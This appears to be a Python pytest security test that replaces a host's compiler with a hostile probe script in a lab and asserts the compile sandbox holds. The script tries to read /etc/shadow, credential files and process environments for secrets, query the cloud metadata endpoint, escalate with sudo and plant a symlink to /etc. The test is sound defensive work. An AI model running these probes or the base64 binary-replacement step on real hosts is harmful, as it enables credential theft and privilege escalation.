# SPDX-License-Identifier: Apache-2.0
"""A checkpoint that runs code in the compiler: what that code can read, write and reach on a stand-in host.

The compiler of the host is replaced by a program that tries everything, since what is loaded there may be that program.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.lab_plays import COMPILE, PROVISION
from tests.stand_in import Lab, stand_in

pytestmark = [pytest.mark.lab, pytest.mark.xdist_group("compile-attack-lab")]

SECRET = "planted-secret-of-the-store"
WRITES = [
    "/opt",
    "/var",
    "/data",
    "/data/artifacts",
    "/data/compile",
    "/data/weights",
    "/etc",
    "/run",
    "/run/trainyard",
]
WRITES += ["/usr/local/lib/trainyard", "/var/log/trainyard", "/etc/systemd/system"]

ATTACK = """#!/usr/bin/python3
import json, os, pathlib, socket, subprocess, sys, urllib.request
target = pathlib.Path(sys.argv[sys.argv.index("--compiled-model-path") + 1])
said = {"uid": os.getuid(), "got": {}}
def attempt(name, call):
    try:
        said["got"][name] = str(call())
    except Exception:
        pass
def shell(line):
    found = subprocess.run(line, shell=True, capture_output=True, text=True).stdout
    if not found:
        raise OSError
    return found
for folder in %(writes)r:
    attempt("write " + folder, lambda: (pathlib.Path(folder) / "by-a-checkpoint").write_text("x"))
attempt("read shadow", lambda: pathlib.Path("/etc/shadow").read_text())
attempt("read credentials", lambda: shell("cat /etc/trainyard/credentials/*.json"))
attempt("secret in an environment", lambda: shell("cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep %(secret)s"))
attempt("secret in a credential", lambda: shell("grep -rs %(secret)s /run/credentials"))
attempt("metadata", lambda: urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=5).status)
attempt("network", lambda: socket.create_connection((%(service)r, 8080), timeout=5))
attempt("root", lambda: shell("sudo -n id"))
(target / "neuron_config.json").write_text(json.dumps({"neuron_config": {}}))
(target / "model.pt").write_text("graph")
if %(link)r:
    (target / "weights").symlink_to("/etc")
(target / "said.json").write_text(json.dumps(said))
"""


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    aws = {"AWS_ACCESS_KEY_ID": "lab", "AWS_SECRET_ACCESS_KEY": SECRET}
    # With a store, the second compile would be a download.
    variables = {"trainyard_aws_environment": aws, "model_compile_store": ""}
    with stand_in("compile-attack", 1, "--time-scale", "0.01", **variables) as made:
        made.play(PROVISION)
        yield made


def plant(lab: Lab, link: bool) -> None:
    """Have the compiler of the host be the attack."""
    service = lab.inventory["all"]["vars"]["lab_hub_url"].split("//")[1].split(":")[0]
    text = ATTACK % {"writes": WRITES, "secret": SECRET, "service": service, "link": link}
    packed = base64.b64encode(text.encode()).decode()
    lab.on("lab-1", f"for it in /opt/aws_neuronx_venv*/bin/inference_demo; do echo {packed} | base64 -d > $it; done")


def test_it_reads_no_secret_writes_nothing_else_and_reaches_nobody(lab: Lab) -> None:
    plant(lab, link=False)
    lab.play(COMPILE)
    said: dict[str, Any] = json.loads(lab.on("lab-1", "cat /data/artifacts/*/said.json"))
    assert said["uid"] != 0
    assert said["got"] == {}
    # The store's keys are where the job's own unit finds them, or the search above would have had nothing to find.
    assert SECRET in lab.on("lab-1", "cat /etc/trainyard/credentials/artifact.json")
    assert lab.on("lab-1", "stat --format=%U /data/artifacts/*/model.pt") == "root"


def test_a_link_that_it_leaves_is_not_followed(lab: Lab) -> None:
    lab.on("lab-1", "rm -r /data/artifacts/*")
    plant(lab, link=True)
    process = lab.start(COMPILE)
    output, _ = process.communicate()
    assert process.returncode != 0
    assert "which is neither a file nor a directory" in output
    assert lab.on("lab-1", "stat --format=%U /etc/passwd") == "root"
    assert lab.on("lab-1", "find /data/artifacts -mindepth 1 | wc -l") == "0"
